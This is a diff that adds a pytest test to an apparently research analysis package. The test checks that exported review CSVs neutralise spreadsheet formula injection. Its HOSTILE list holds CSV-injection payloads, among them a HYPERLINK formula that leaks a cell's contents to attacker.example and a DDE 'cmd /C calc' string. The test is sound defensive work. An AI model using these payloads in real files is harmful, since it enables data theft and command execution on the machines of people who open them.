@@ -112,3 +112,56 @@ def test_import_review_rejects_unknown_category(tmp_path):
     ).write_csv(path)
     with pytest.raises(ValueError, match=r"unknown category 'bribery'.*run r, seq 4"):
         import_review(path)
+
+
+# texts a colleague's run can carry that a spreadsheet would run as formulas (a red team's)
+HOSTILE = [
+    '=HYPERLINK("http://attacker.example/?leak="&A2,"open details")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)*cmd|' /C calc'!A0",
+    "\t=1",
+    "\r=1",
+]
+
+
+def _hostile_utterances():
+    n = len(HOSTILE)
+    u = pl.DataFrame(
+        {
+            "run_id": ["base-seed0000"] * n,
+            "seq": list(range(n)),
+            "subrun": [0] * n,
+            "round": [1] * n,
+            "worker": ["=W1()", *["W2"] * (n - 1)],
+            "source": ["message"] * n,
+            "text": HOSTILE,
+        }
+    )
+    p = pl.DataFrame({"run_id": ["base-seed0000"], "seq": [0], "category": ["anchoring"]})
+    return u, p
+
+
+@pytest.mark.parametrize("export", ["review", "ipw"])
+def test_review_csvs_do_not_carry_formulas(export, tmp_path):
+    from mbb.analysis.validation import export_ipw_sample, ipw_estimates
+
+    u, p = _hostile_utterances()
+    path = tmp_path / "sample.csv"
+    if export == "review":
+        export_review_sample(u, p, path, per_stratum=10)
+    else:
+        export_ipw_sample(u, p, path, per_stratum=10, unlabelled=10)
+    back = pl.read_csv(path, infer_schema_length=0).sort(pl.col("seq").cast(pl.Int64))
+    # every text cell a spreadsheet would evaluate is shown as text ('), the rest as it was
+    assert back["text"].to_list() == [f"'{t}" for t in HOSTILE]
+    if export == "review":
+        assert back["worker"].to_list()[0] == "'=W1()"
+    # the keys are left as they are: the filled-in file still joins and weighs back
+    assert back["run_id"].to_list() == ["base-seed0000"] * len(HOSTILE)
+    assert back["seq"].to_list() == [str(i) for i in range(len(HOSTILE))]
+    if export == "ipw":
+        labelled = back.with_columns(pl.col("predicted").fill_null("").alias("human_labels"))
+        labelled.write_csv(tmp_path / "labelled.csv")
+        est = ipw_estimates(tmp_path / "labelled.csv", ["anchoring"], n_boot=10)
+        assert est.row(0, named=True)["precision"] == 1.0
